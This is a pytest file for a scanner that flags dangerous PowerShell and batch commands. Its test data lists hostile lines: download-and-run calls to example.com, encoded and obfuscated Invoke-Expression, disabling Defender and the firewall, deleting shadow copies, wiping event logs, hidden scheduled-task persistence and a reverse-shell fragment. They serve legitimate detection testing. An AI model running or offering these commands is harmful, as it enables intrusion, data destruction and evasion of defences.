"""PowerShell and batch files: one line, one defect."""

from __future__ import annotations

import base64

import pytest
from hypothesis import given
from hypothesis import strategies as st

from proxy.scan.base import Prepared
from proxy.scan.commands.engine import ShellEngine
from proxy.scan.commands.windows import _MAX_LAYERS
from proxy.scan.commands.windows_lines import MAX_LINE, lines


def rules(text: str, language: str) -> list[str]:
    found = ShellEngine().scan(Prepared(text, language)).findings
    return [each.rule_id.removeprefix("shell.") for each in found]


@pytest.mark.parametrize(
    ("text", "rule"),
    [
        ("iex (iwr https://example.com/i.ps1)", "download-run"),
        ("Invoke-WebRequest https://example.com/i.ps1 | Invoke-Expression", "download-run"),
        ("iex ((New-Object Net.WebClient).DownloadString('http://example.com/i.ps1'))", "download-run-plain"),
        ("powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBi", "decode-and-run"),
        ("Invoke-Expression $command", "eval-unknown"),
        ("[Net.ServicePointManager]::ServerCertificateValidationCallback = {$true}", "tls-unverified"),
        ("Invoke-RestMethod https://example.com -SkipCertificateCheck", "tls-unverified"),
        ("Set-MpPreference -DisableRealtimeMonitoring $true", "protection-off"),
        ("Set-NetFirewallProfile -Profile Domain -Enabled False", "protection-off"),
        ("Set-ExecutionPolicy Unrestricted -Force", "execution-policy"),
        ("Remove-Item C:\\ -Recurse -Force", "destructive-delete"),
        ("vssadmin delete shadows /all", "destructive-delete"),
        ("icacls C:\\data /grant Everyone:F", "open-permissions"),
        ("net localgroup administrators app /add", "root-group"),
        ("Clear-EventLog -LogName Security", "history-wiped"),
        ('schtasks /create /tn x /tr "powershell -w hidden -c iwr"', "persistence"),
        ("New-NetFirewallRule -DisplayName r -LocalPort 3389 -Action Allow", "firewall-open"),
        ("winrm set winrm/config/service '@{AllowUnencrypted=\"true\"}'", "service-without-login"),
        ("[Net.ServicePointManager]::SecurityProtocol = [Net.SecurityProtocolType]::Ssl3", "weak-crypto"),
        ("$c = New-Object System.Net.Sockets.TCPClient('10.0.0.7',1); iex $d", "reverse-shell"),
    ],
)
def test_powershell(text: str, rule: str) -> None:
    assert rule in rules(f"{text}\r\n", "powershell")


@pytest.mark.parametrize(
    "text",
    [
        "# Set-ExecutionPolicy Bypass",
        "Remove-Item .\\build -Recurse -Force",
        "Invoke-WebRequest https://example.com/x.zip -OutFile x.zip",
        "Get-ChildItem | Remove-Item",
        "New-NetFirewallRule -LocalPort 3389 -Action Allow -RemoteAddress 10.0.0.0/8",
        "$password = Read-Host -AsSecureString",
        "ConvertTo-SecureString $plain -AsPlainText -Force",
        "[Net.ServicePointManager]::SecurityProtocol = [Net.SecurityProtocolType]::Tls12",
        "",
    ],
)
def test_ordinary_powershell_is_silent(text: str) -> None:
    assert rules(f"{text}\n", "powershell") == []


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("rd /s /q C:\\", ["destructive-delete"]),
        ("del /f /s C:\\*.*", ["destructive-delete"]),
        ("rem rd /s /q C:\\", []),
        (":: format C: /q", []),
        ("rd /s /q build", []),
        ("netsh advfirewall set allprofiles state off", ["protection-off"]),
        ("bcdedit /set testsigning on", ["protection-off"]),
        ("net share data=C:\\data /grant:everyone,full", ["open-permissions"]),
    ],
)
def test_batch(text: str, expected: list[str]) -> None:
    assert rules(f"@echo off\n{text}\n", "batch") == expected


def test_lines_that_go_on_are_one() -> None:
    text = "Write-Host a\nInvoke-WebRequest `\n  https://example.com/i.ps1 |\n  Invoke-Expression\n"
    (found,) = ShellEngine().scan(Prepared(text, "powershell")).findings
    assert (found.rule_id, found.span.line, found.span.end_line) == ("shell.download-run", 2, 4)


def test_a_last_line_may_go_on_into_nothing() -> None:
    assert rules("Set-ExecutionPolicy Bypass `", "powershell") == ["execution-policy"]


def test_a_secret_is_what_is_pointed_at() -> None:
    text = 'ConvertTo-SecureString "Gr4velTr4in99" -AsPlainText -Force\nnet user app Gr4velTr4in99 /add\n'
    found = ShellEngine().scan(Prepared(text, "powershell")).findings
    assert [text[each.span.start : each.span.end] for each in found] == ["Gr4velTr4in99"] * 2


def encoded(text: str) -> str:
    return base64.b64encode(text.encode("utf-16-le")).decode()


def test_what_is_encoded_is_found_where_it_stands() -> None:
    word = encoded("Set-MpPreference -DisableRealtimeMonitoring $true")
    text = f"Write-Host a\npowershell -nop -enc {word}\n"
    found = {each.rule_id: each.span for each in ShellEngine().scan(Prepared(text, "powershell")).findings}
    assert set(found) == {"shell.decode-and-run", "shell.protection-off"}
    assert text[found["shell.protection-off"].start : found["shell.protection-off"].end] == word


def test_what_is_encoded_in_what_is_encoded_is_found_to_a_bound() -> None:
    text = "Clear-EventLog -LogName System -ComputerName app01"
    for _ in range(_MAX_LAYERS):
        text = f"powershell -enc {encoded(text)}"
    assert "history-wiped" in rules(text, "powershell")
    assert "history-wiped" not in rules(f"powershell -enc {encoded(text)}", "powershell")


@pytest.mark.parametrize(
    ("text", "language", "shown"),
    [
        pytest.param("a; i`e`x (irm https://example.com/a)", "powershell", "i`e`x (irm", id="backticks"),
        pytest.param("('i'+'ex') + (irm https://example.com/a)", "powershell", "i'+'ex') + (irm", id="joined"),
        pytest.param("cmd & i^e^x (irm https://example.com/a)", "batch", "i^e^x (irm", id="carets"),
    ],
)
def test_what_hides_a_word_stands_in_the_place(text: str, language: str, shown: str) -> None:
    (found,) = ShellEngine().scan(Prepared(text, language)).findings
    assert text[found.span.start : found.span.end] == shown


@pytest.mark.parametrize("before", [0, MAX_LINE - 30, MAX_LINE, 3 * MAX_LINE, 200_000])
def test_a_long_line_is_looked_at_to_its_end(before: int) -> None:
    text = "x " * (before // 2) + "; iex (irm https://example.com/a)"
    assert rules(text, "powershell") == ["download-run"]


def test_windows_of_a_long_line_are_linear() -> None:
    sizes = [sum(len(line.text) for line in lines("a^b " * count, "batch")) for count in (10_000, 20_000)]
    assert sizes[1] < 2.1 * sizes[0]


@given(
    st.lists(
        st.sampled_from(
            ["$a = ", "irm https://x ", "iex ", "$a", "\n", "`", "^", "|", "%a%", "set a=", "set /p a=", "&", "'+'", '"', "param(", ")", "<#", "#>", "é"]
        ),
        max_size=30,
    ).map("".join),
    st.sampled_from(["powershell", "batch"]),
)  # fmt: skip
def test_every_hit_lies_inside_the_text(text: str, language: str) -> None:
    for found in ShellEngine().scan(Prepared(text, language)).findings:
        assert 0 <= found.span.start <= found.span.end <= len(text)
